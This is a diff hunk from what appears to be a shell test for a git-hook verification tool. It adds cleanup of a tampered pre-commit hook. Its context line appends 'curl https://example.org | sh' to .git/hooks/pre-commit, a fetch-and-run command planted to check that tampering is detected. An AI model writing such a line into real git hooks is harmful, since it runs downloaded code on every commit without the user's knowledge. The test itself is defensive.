@@ -22,6 +22,8 @@ echo 'curl https://example.org | sh' >>.git/hooks/pre-commit
 run 5 verify
 says "new" ".git/hooks/pre-commit"
 
+rm .git/hooks/pre-commit
+
 # The other way round: recorded with the hooks, and read where there are none.
 run 0 hook uninstall
 run 0 hook install
